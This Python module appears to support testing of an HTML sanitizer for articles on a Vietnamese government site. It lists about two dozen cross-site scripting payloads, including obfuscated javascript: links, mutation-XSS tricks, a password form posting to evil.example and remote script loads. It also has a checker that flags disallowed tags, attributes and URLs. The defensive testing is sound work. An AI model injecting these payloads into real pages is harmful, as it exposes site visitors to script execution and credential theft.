"""What an attacker would like to see in an article, and a judge that reads a page as a browser does."""

from __future__ import annotations

import re

from lxml import html

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<p>a<scr<script>ipt>alert(1)</script></p>",
    '<img src=x onerror="alert(1)">',
    '<img src="data:image/png;base64,AAAA" onload=alert(1)>',
    '<img src="https://evil.example/who-reads.png">',
    '<img src="//evil.example/a.png"><img src="/\\evil.example/a.png">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<p onclick="alert(1)" style="position:fixed;inset:0" class="btn" id="main">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" &#1; jAvA\tsc\nript:alert(1)">a</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="java&NewLine;script:alert(1)" onmouseover="alert(1)">a</a>',
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Đăng nhập</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "</div></main><main><h1>Trang giả</h1>",
    "<template><script>alert(1)</script></template><dialog open>a</dialog>",
    '<p title="&quot;><script>alert(1)</script>">a</p>',
)
LAWFUL = (
    '<h2>I. Tin</h2><p>Đọc <a href="/procedures/2.000635">thủ tục</a>, <a href="https://thanhhoa.gov.vn">cổng tỉnh</a> '
    '&amp; gọi <a href="tel:19001234">1900 1234</a>.</p><ul><li>một</li></ul><ol><li><strong>hai</strong></li></ol>'
    '<figure><img src="data:image/svg+xml;base64,PHN2Zy8+" alt="Hình" width="520" height="90" loading="lazy" '
    'class="img-fluid"><figcaption>Hình 1 &lt;mẫu&gt;</figcaption></figure>'
)
TAGS = {"a", "blockquote", "br", "em", "figcaption", "figure", "h2", "h3", "img", "li", "ol", "p", "strong", "ul"}
ATTRIBUTES = {"alt", "class", "height", "href", "lang", "loading", "src", "title", "width"}
LINK = re.compile(r"(https?:|mailto:|tel:|/|#|$)")
PICTURE = re.compile(r"data:image/|/[^/\\]")


def dangers(article: str) -> list[str]:
    """Everything in this piece of HTML that could run, load from elsewhere or pose as a form."""
    found = []
    for element in html.fragment_fromstring(article, create_parent="div").iterdescendants():
        if not isinstance(element.tag, str) or element.tag not in TAGS:
            found.append(f"element {element.tag}")
            continue
        found += [f"{element.tag} {name}" for name in element.attrib if name not in ATTRIBUTES]
        if not LINK.match(element.get("href", "")):
            found.append(f"link {element.get('href')}")
        if not PICTURE.match(element.get("src", "/x")):
            found.append(f"picture {element.get('src')}")
    return found
